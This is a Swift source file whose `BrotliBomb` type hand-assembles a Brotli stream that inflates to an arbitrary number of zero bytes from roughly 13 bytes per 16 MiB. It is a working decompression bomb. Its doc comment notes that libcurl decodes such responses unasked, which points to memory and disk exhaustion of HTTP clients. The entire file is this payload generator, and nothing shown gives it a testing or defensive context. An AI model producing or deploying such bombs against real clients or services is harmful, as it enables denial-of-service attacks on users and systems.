import Foundation

/// A Brotli stream (RFC 7932) that decodes to `size` zero bytes from about
/// 13 bytes per 16 MiB. Each meta-block (§9.2) holds one command: insert one
/// literal 0, then copy the rest of the block from distance 1. Every prefix
/// code is a simple one with a single symbol (§3.4), which takes no bits at
/// all, so a block costs only its header and the command's extra bits.
/// libcurl decodes `br` as readily as `gzip` when a server sends it unasked.
public enum BrotliBomb {
    /// The most a meta-block may hold (MLEN, 24 bits).
    static let blockSize = 1 << 24

    public static func make(inflatedSize size: Int) -> Data {
        precondition(size > 2118, "one command per block copies at least 2118 bytes")
        var bits = LSBFirstBits()
        bits.write(0, count: 1) // WBITS = 16
        var left = size
        while left > 0 {
            var length = min(left, blockSize)
            if (1...2118).contains(left - length) { length -= 2119 } // keep the last block long enough for its copy
            left -= length
            bits.write(0, count: 1) // ISLAST = 0
            let nibbles = length - 1 < 1 << 16 ? 4 : length - 1 < 1 << 20 ? 5 : 6
            bits.write(nibbles - 4, count: 2) // MNIBBLES
            bits.write(length - 1, count: 4 * nibbles) // MLEN - 1
            bits.write(0, count: 1) // ISUNCOMPRESSED = 0
            bits.write(0, count: 3) // NBLTYPESL, NBLTYPESI, NBLTYPESD = 1 each
            bits.write(0, count: 6) // NPOSTFIX = 0, NDIRECT = 0
            bits.write(0, count: 2) // the literal block type's context mode (LSB6)
            bits.write(0, count: 2) // NTREESL = 1, NTREESD = 1
            // literal 0; insert 1 + copy code 23; distance code 16
            for (symbol, width) in [(0, 8), (399, 10), (16, 6)] {
                bits.write(1, count: 2) // HSKIP = 1: a simple prefix code
                bits.write(0, count: 2) // NSYM - 1 = 0
                bits.write(symbol, count: width)
            }
            bits.write(length - 1 - 2118, count: 24) // copy length code 23: 2118 + 24 extra bits
            bits.write(0, count: 1) // distance code 16, extra bit 0: distance 1
        }
        bits.write(0b11, count: 2) // ISLAST = 1, ISLASTEMPTY = 1
        return Data(bits.finish())
    }

    /// Bits packed from the least significant end, as Brotli reads every field.
    struct LSBFirstBits {
        var bytes = [UInt8]()
        var current: UInt8 = 0
        var filled = 0

        mutating func write(_ value: Int, count: Int) {
            for bit in 0..<count {
                current |= UInt8((value >> bit) & 1) << UInt8(filled)
                filled += 1
                if filled == 8 {
                    bytes.append(current)
                    current = 0
                    filled = 0
                }
            }
        }

        mutating func finish() -> [UInt8] {
            if filled > 0 { bytes.append(current) }
            return bytes
        }
    }
}
